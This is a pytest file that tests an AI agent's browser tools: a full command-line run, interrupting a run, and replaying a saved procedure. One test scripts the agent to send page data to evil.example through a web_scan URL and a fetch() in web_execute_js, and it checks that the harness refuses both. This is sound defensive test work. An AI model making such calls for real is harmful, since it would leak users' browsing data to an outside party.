"""Whole runs that use the browser: from the command line, stopped in the middle, and asked about by
the gate."""

import json
import os
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.browser_driving import needs_browser
from tests.browser_site import site
from tests.conftest import LAUNCH, CommandLine
from tests.driving import call, put_sop
from tests.machine import PATIENCE_SECONDS
from tests.screen import scripted
from tests.test_browser_faults import browsers

pytestmark = needs_browser
PRESS = "e13898"  # a reference is made of what a thing is, so it can be known before


@pytest.fixture(scope="module")
def base() -> Iterator[str]:
    with site() as address:
        yield address


def test_a_task_in_the_browser_from_the_command_line(
    cli: CommandLine, home: Path, base: str, tmp_path: Path
) -> None:
    replies = [
        call("more_tools", family="browser"),
        call("web_scan", url=base),
        call("web_execute_js", script=f"await click('{PRESS}'); await shot()"),
        call("web_execute_js", script="document.body.innerText.includes('was pressed')"),
        "It was pressed.",
    ]
    scripted(home, replies)
    code, stdout, _ = cli("run", f"press the button on {base}", "--events", "--approve", "never")
    events = [json.loads(line) for line in stdout.splitlines()]
    ended = [event for event in events if event["type"] == "tool_ended"]
    assert [event["status"] for event in ended] == ["ok"] * 4, ended
    assert "web_execute_js" in ended[0]["data"]
    assert f"[Press]({PRESS} button)" in ended[1]["data"]["output"]
    assert "was pressed" in ended[2]["data"]["new_text"]
    assert Path(ended[2]["data"]["output"]).read_bytes().startswith(b"\x89PNG")
    assert ended[3]["data"]["output"] == "true"
    assert {event.get("origin") for event in ended[1:]} == {"web"}
    assert [event["delta"] for event in events if event["type"] == "tool_output"] == [
        f"click {PRESS}\n"
    ]
    assert code == 0
    assert browsers(tmp_path) == []


def test_what_a_page_asks_for_is_not_done_unasked(cli: CommandLine, home: Path, base: str) -> None:
    replies = [
        call("web_scan", url=base),
        call("web_scan", url="http://evil.example/?q=what+was+read"),
        call("web_execute_js", script="fetch('http://evil.example/' + document.title)"),
        "nothing was sent",
    ]
    scripted(home, replies)
    code, stdout, _ = cli("run", f"what does {base} say?", "--events", "--approve", "never")
    statuses = [
        json.loads(line)["status"] for line in stdout.splitlines() if '"tool_ended"' in line
    ]
    assert (code, statuses) == (0, ["ok", "refused", "refused"])


def test_a_run_that_is_stopped_leaves_no_browser(home: Path, base: str, tmp_path: Path) -> None:
    scripted(
        home,
        [
            call("web_scan", url=base),
            call("web_execute_js", script="await new Promise(() => {})"),
            "never",
        ],
    )
    argv = [*LAUNCH, "run", f"wait on {base}", "--events"]
    with subprocess.Popen(
        argv, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=dict(os.environ)
    ) as run:
        assert run.stdout
        for line in run.stdout:
            event = json.loads(line)
            if event["type"] == "tool_started" and event["tool"] == "web_execute_js":
                time.sleep(0.2)  # in the middle of it
                run.send_signal(signal.SIGINT)
        assert event["status"] == "cancelled"
        assert run.wait(PATIENCE_SECONDS) == 130
    assert browsers(tmp_path) == []
    assert list((home / "browser" / "runs").iterdir()) == []


def test_a_reference_serves_a_replay_and_is_nobodys_where_the_thing_is_not(
    cli: CommandLine, home: Path, base: str, tmp_path: Path
) -> None:
    script = f"await click('{PRESS}'); return document.body.innerText.includes('was pressed')"
    steps = (
        "parameters: {type: object, properties: {url: {type: string}}, required: [url]}\n"
        'wordings: ["press the button at {url}"]\neffects: external\ncommit:\n'
        '  - {tool: web_scan, args: {url: "{{url}}"}, expect: {status: ok}}\n'
        f'  - {{tool: web_execute_js, args: {{script: "{script}"}}, expect: {{status: ok}}, save: {{done: output}}}}\n'
        'result: "pressed: {{done}}"\nchecks: [{command: "true"}]\n'
    )
    put_sop(home, "press-it", steps)
    code, stdout, _ = cli("sops", "run", "press-it", f"url={base}/")
    assert (code, stdout.strip()) == (0, "pressed: true")
    code, stdout, stderr = cli("sops", "run", "press-it", f"url={base}/toast")
    assert code != 0
    assert "pressed" not in stdout
    assert f"{PRESS} is not on this page" in stdout + stderr
    assert browsers(tmp_path) == []
